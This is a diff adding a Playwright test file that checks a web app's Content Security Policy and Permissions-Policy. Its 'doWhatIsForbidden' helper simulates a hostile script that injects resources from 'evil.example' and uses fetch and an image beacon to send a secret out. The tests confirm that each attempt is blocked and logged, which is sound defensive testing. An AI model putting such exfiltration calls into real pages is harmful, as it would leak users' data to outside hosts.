@@ -1,0 +1,88 @@
+import type { Page } from '@playwright/test'
+import { freePort } from '../../scripts/ports.ts'
+import { expect, test } from '../support/fixtures.ts'
+import { hasNginx, startNginx } from '../support/nginx.ts'
+import { type Servers, startServers } from '../support/servers.ts'
+
+const linesOf = ({ app }: Servers): string[] =>
+  app
+    .output()
+    .split('\n')
+    .flatMap((line) => (line.includes('"policy"') ? [JSON.parse(line)] : []))
+    .map(({ address, detail }) => `${address}: ${detail}`)
+    .sort()
+
+/** What a script of a stranger would try. */
+function doWhatIsForbidden(page: Page): Promise<void> {
+  return page.evaluate(() => {
+    const make = (name: string, properties: object) => Object.assign(document.createElement(name), properties)
+    const attempts = [
+      () => document.body.append(make('img', { src: 'https://evil.example/pixel.png?code=s3cret' })),
+      () => void Object.assign(document.body, { innerHTML: '<b>s3cret</b>' }),
+      () => document.body.append(make('script', { src: 'https://evil.example/x.js' })),
+      () => document.body.append(make('style', { textContent: 'body{top:0}' })),
+      () => document.body.append(make('iframe', { src: 'https://evil.example/' })),
+      () => void fetch('https://evil.example/?code=s3cret').catch(() => null),
+    ]
+    for (const attempt of attempts)
+      try {
+        attempt()
+      } catch {}
+  })
+}
+
+const stopped = [
+  '/login: connect-src stopped https://evil.example',
+  '/login: frame-src stopped https://evil.example',
+  '/login: img-src stopped https://evil.example',
+  '/login: require-trusted-types-for stopped trusted-types-sink',
+  '/login: require-trusted-types-for stopped trusted-types-sink',
+  '/login: style-src-elem stopped inline',
+]
+const path = '/login?reason=access_denied&returnTo=%2Fs3cret'
+
+test.describe('a page that breaks the policy on purpose', () => {
+  test.use({ expectedProblems: [/violation|policy|Trusted|requires|violates/i] })
+
+  test('is stopped six times, and each is a line in the log, without a query', async ({ page, problems }) => {
+    const servers = await startServers()
+    await page.goto(servers.app.origin + path)
+    expect(problems).toEqual([])
+    await doWhatIsForbidden(page)
+    await expect.poll(() => linesOf(servers)).toEqual(stopped)
+    expect(servers.app.output()).not.toContain('s3cret')
+    expect(problems.filter((problem) => problem.startsWith('violation: '))).toHaveLength(6)
+    await expect(page.getByRole('main')).toBeVisible()
+    await servers.stop()
+  })
+
+  test('tells the same on https, by the newer way of browsers', async ({ playwright, launchOptions }) => {
+    test.skip(!hasNginx, 'There is no nginx, or no openssl, on this machine')
+    const port = await freePort(0)
+    const servers = await startServers({ APP_URL: `https://127.0.0.1:${port}` })
+    const nginx = await startNginx({ port, upstreams: [servers.app.origin] })
+    // Reports are sent by no page, so the browser itself must trust the certificate; and at once, not in a minute.
+    const args = [...(launchOptions.args ?? []), '--ignore-certificate-errors', '--short-reporting-delay']
+    const browser = await playwright.chromium.launch({ ...launchOptions, args })
+    const page = await browser.newPage()
+    await page.goto(nginx.origin + path)
+    await doWhatIsForbidden(page)
+    await expect.poll(() => linesOf(servers)).toEqual(stopped)
+    expect(servers.app.output()).not.toContain('s3cret')
+    await browser.close()
+    await nginx.stop()
+    await servers.stop()
+  })
+})
+
+test('no page may use a camera, a position or anything else that a browser lets pages ask for', async ({ page }) => {
+  const answer = await page.goto('/')
+  const named = `${answer?.headers()['permissions-policy']}`.split('=(), ')
+  const allowed: string[] = await page.evaluate(() =>
+    (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures(),
+  )
+  expect(named.length).toBeGreaterThan(30)
+  expect(allowed.filter((feature) => named.includes(feature))).toEqual([])
+  const powers = /^(?:camera|microphone|geolocation|usb|hid|serial|midi|payment|display-capture|.*-get|clipboard-.*)$/
+  expect(allowed.filter((feature) => powers.test(feature) && !feature.startsWith('digital-'))).toEqual([])
+})
